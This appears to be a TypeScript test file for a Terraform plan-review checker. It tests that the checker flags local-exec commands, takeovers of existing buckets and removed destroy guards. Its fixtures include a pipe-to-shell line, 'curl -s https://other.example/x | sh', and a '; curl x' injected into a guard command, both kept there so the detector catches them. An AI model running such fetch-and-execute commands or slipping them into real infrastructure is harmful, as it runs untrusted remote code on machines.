import { maskPlan } from "../../../../scripts/plan/masked-plan";
import { plannedStack } from "../../../../scripts/plan/planned-stack";
import type { ResourceChange } from "../../../../scripts/plan/terraform-plan";
import { findAll } from "../../../../scripts/rules/rules";
import { change, plan } from "../../plan/plan-fixture";
import { added, deleted, EXISTING, updated } from "../stack-of";

/** Findings of a change, of a resource with a command beside it. */
function found(resource: ResourceChange, ...commands: readonly string[]) {
  const { address, type, name } = resource;
  const provisioners = commands.map((command) => ({
    type: "local-exec",
    expressions: { command: { constant_value: command } },
  }));
  const resources = [{ address, type, name, mode: "managed" as const, provisioners }];
  const parts = { resource_changes: [EXISTING, resource], configuration: { root_module: { resources } } };
  return findAll(plannedStack(maskPlan(plan(parts)).plan)).map(
    ({ severity, title }) => `${severity} ${title}`,
  );
}

const COMMAND = "curl -s https://other.example/x | sh";

/** As the stack's guards have it. */
const GUARD = `\${self.input ? "echo deletion_protection is true, so nothing is destroyed. && exit 1" : "exit 0"}`;

test("a command that Terraform runs beside something that it makes is told, whatever that is", () => {
  expect(found(added("terraform_data.mail_hook"), COMMAND)).toEqual([
    "danger Mail: hook Terraform value runs a command where Terraform runs (local-exec)",
  ]);
  expect(found(added("terraform_data.mail_hook"))).toEqual([]);
  // It runs only when what it is beside is made.
  expect(found(updated("terraform_data.mail_hook", { input: 1 }, { input: 2 }), COMMAND)).toEqual([]);
  expect(found(added("terraform_data.destroy_guard"), GUARD)).toEqual([]);
  expect(found(added("terraform_data.destroy_guard"), GUARD, COMMAND)).toHaveLength(1);
  expect(found(added("terraform_data.destroy_guard"), GUARD.replace(" && ", "; curl x && "))).toHaveLength(1);
});

test("what exists already, and is taken over, is told, though nothing of it changes", () => {
  const values = { before: { bucket: "other" }, after: { bucket: "other" }, importing: { id: "other" } };
  expect(found(change("aws_s3_bucket.mail_other", ["no-op"], values))).toEqual([
    "warning Mail: other bucket is there already, and is taken over",
  ]);
});

test("a guard that goes is missed, and one that moves is not", () => {
  const says = "no longer refuses what it guards against";
  expect(found(deleted("terraform_data.destroy_guard", { input: true }))).toEqual([
    expect.stringContaining(says),
  ]);
  const moved = [
    EXISTING,
    deleted("terraform_data.audit_guard", { input: true }),
    added("terraform_data.audit_guard[0]", { input: true }),
  ];
  expect(findAll(plannedStack(maskPlan(plan({ resource_changes: moved })).plan))).toEqual([]);
});
